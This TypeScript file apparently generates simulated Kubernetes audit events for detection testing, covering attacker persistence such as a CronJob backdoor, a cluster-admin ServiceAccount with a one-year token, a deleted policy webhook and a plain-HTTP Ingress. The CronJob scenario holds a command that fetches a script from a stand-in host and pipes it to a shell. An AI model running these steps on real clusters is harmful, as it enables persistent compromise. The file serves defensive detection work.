/**
 * Persistence and cluster-configuration scenarios: a CronJob backdoor, a client certificate
 * approved by hand, a kube-system ServiceAccount with a year-long token, a policy webhook
 * deleted, a new namespace, an Ingress without TLS.
 */
import { emitAudit } from '../emit';
import { AuditRequest } from '../formats/audit';
import { clusterRoleBindingObject, cronJobObject, csrObject, ingressObject } from '../objects';
import { Rng } from '../prng';
import type { SimEvent } from '../types';
import { ATTACKER, attackerRequest, Scenario, ScenarioContext, sec } from './common';

function many(ctx: ScenarioContext, id: string, reqs: AuditRequest[]): SimEvent[] {
  return reqs.flatMap((r) => emitAudit(ctx.cluster, ctx.rng, r, id));
}

/** A base64 PEM certificate request: the fixed PEM header, then random key material. */
export function pemRequest(rng: Rng): string {
  return `LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0K${rng.chars(600, 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/')}`;
}

export const cronJobBackdoor: Scenario = {
  id: 'cronjob-backdoor',
  description: 'A human creates a CronJob in analytics that fetches and runs a script from an internet host every 15 minutes.',
  detections: ['k8s-cronjob-by-human'],
  spanMs: 5_000,
  run(ctx) {
    const obj = cronJobObject('analytics', 'reports-cleanup', '*/15 * * * *', 'docker.io/curlimages/curl:8.8.0', ['sh', '-c', 'curl -fsS http://203.0.113.50:8080/u.sh | sh']);
    const events = many(ctx, this.id, [
      attackerRequest(ctx.atUs, { verb: 'create', code: 201, objectRef: { resource: 'cronjobs', namespace: 'analytics', name: 'reports-cleanup', apiGroup: 'batch', apiVersion: 'v1' }, requestObject: obj }),
    ]);
    return { events, entities: { namespace: 'analytics', cronJob: 'reports-cleanup', user: ATTACKER.username } };
  },
};

export const csrApproved: Scenario = {
  id: 'csr-approved',
  description: 'A human submits a client-certificate request and approves it (`kubectl certificate approve`): a year-long credential outside the identity provider.',
  detections: ['k8s-csr-approved'],
  spanMs: 10_000,
  run(ctx) {
    const name = 'contractor-7-laptop';
    const ref = { resource: 'certificatesigningrequests', name, apiGroup: 'certificates.k8s.io', apiVersion: 'v1' };
    const csr = csrObject(name, pemRequest(ctx.rng));
    const approved = { ...csr, status: { conditions: [{ type: 'Approved', status: 'True', reason: 'KubectlApprove', message: 'This CSR was approved by kubectl certificate approve.' }] } };
    const events = many(ctx, this.id, [
      attackerRequest(ctx.atUs, { verb: 'create', code: 201, objectRef: ref, requestObject: csr }),
      attackerRequest(ctx.atUs + sec(4), { verb: 'get', code: 200, level: 'Metadata', objectRef: ref, stages: ['ResponseComplete'] }),
      attackerRequest(ctx.atUs + sec(4.2), { verb: 'update', code: 200, objectRef: { ...ref, subresource: 'approval' }, requestObject: approved }),
    ]);
    return { events, entities: { csr: name, user: ATTACKER.username } };
  },
};

export const kubeSystemServiceAccount: Scenario = {
  id: 'kube-system-serviceaccount',
  description: 'A human creates a ServiceAccount in kube-system, binds it to cluster-admin and mints a one-year token for it (`kubectl create token --duration=8760h`).',
  detections: ['k8s-serviceaccount-kube-namespace', 'k8s-cluster-admin-binding', 'k8s-serviceaccount-token-request'],
  spanMs: 15_000,
  run(ctx) {
    const sa = 'node-problem-sync';
    const saRef = { resource: 'serviceaccounts', namespace: 'kube-system', apiVersion: 'v1' };
    const binding = clusterRoleBindingObject(`${sa}-admin`, 'cluster-admin', { kind: 'ServiceAccount', name: sa, namespace: 'kube-system' });
    const tokenRequest = { kind: 'TokenRequest', apiVersion: 'authentication.k8s.io/v1', metadata: { name: sa, namespace: 'kube-system' }, spec: { audiences: ['https://kubernetes.default.svc.cluster.local'], expirationSeconds: 31_536_000 } };
    const events = many(ctx, this.id, [
      attackerRequest(ctx.atUs, { verb: 'create', code: 201, objectRef: { ...saRef, name: sa }, requestObject: { kind: 'ServiceAccount', apiVersion: 'v1', metadata: { name: sa, namespace: 'kube-system' } } }),
      attackerRequest(ctx.atUs + sec(5), { verb: 'create', code: 201, objectRef: { resource: 'clusterrolebindings', name: `${sa}-admin`, apiGroup: 'rbac.authorization.k8s.io', apiVersion: 'v1' }, requestObject: binding }),
      attackerRequest(ctx.atUs + sec(11), { verb: 'create', code: 201, objectRef: { ...saRef, name: sa, subresource: 'token' }, requestObject: tokenRequest }),
    ]);
    return { events, entities: { namespace: 'kube-system', serviceAccount: sa, user: ATTACKER.username } };
  },
};

export const webhookDeleted: Scenario = {
  id: 'webhook-deleted',
  description: "A human deletes the policy engine's validating webhook configuration, switching admission policy off.",
  detections: ['k8s-webhook-config-changed'],
  spanMs: 5_000,
  run(ctx) {
    const ref = { resource: 'validatingwebhookconfigurations', apiGroup: 'admissionregistration.k8s.io', apiVersion: 'v1' };
    const name = 'gatekeeper-validating-webhook-configuration';
    const events = many(ctx, this.id, [
      attackerRequest(ctx.atUs, { verb: 'list', code: 200, level: 'Metadata', objectRef: ref, query: '?limit=500', stages: ['ResponseComplete'] }),
      attackerRequest(ctx.atUs + sec(2.5), { verb: 'delete', code: 200, level: 'Metadata', objectRef: { ...ref, name } }),
    ]);
    return { events, entities: { webhook: name, user: ATTACKER.username } };
  },
};

export const namespaceCreated: Scenario = {
  id: 'namespace-created',
  description: 'A human creates a namespace named like a platform component, outside the namespaces monitoring covers.',
  detections: ['k8s-namespace-changed'],
  spanMs: 5_000,
  run(ctx) {
    const name = 'kube-metrics';
    const events = many(ctx, this.id, [
      attackerRequest(ctx.atUs, { verb: 'create', code: 201, objectRef: { resource: 'namespaces', name, apiVersion: 'v1' }, requestObject: { kind: 'Namespace', apiVersion: 'v1', metadata: { name } } }),
    ]);
    return { events, entities: { namespace: name, user: ATTACKER.username } };
  },
};

export const ingressWithoutTls: Scenario = {
  id: 'ingress-without-tls',
  description: 'A human publishes the payments API on a plain-HTTP Ingress.',
  detections: ['k8s-ingress-without-tls'],
  spanMs: 5_000,
  run(ctx) {
    const obj = ingressObject('payments', 'payments-api-debug', 'payments-debug.example.com', 'payments-api', 8080);
    const events = many(ctx, this.id, [
      attackerRequest(ctx.atUs, { verb: 'create', code: 201, objectRef: { resource: 'ingresses', namespace: 'payments', name: 'payments-api-debug', apiGroup: 'networking.k8s.io', apiVersion: 'v1' }, requestObject: obj }),
    ]);
    return { events, entities: { namespace: 'payments', ingress: 'payments-api-debug', user: ATTACKER.username } };
  },
};
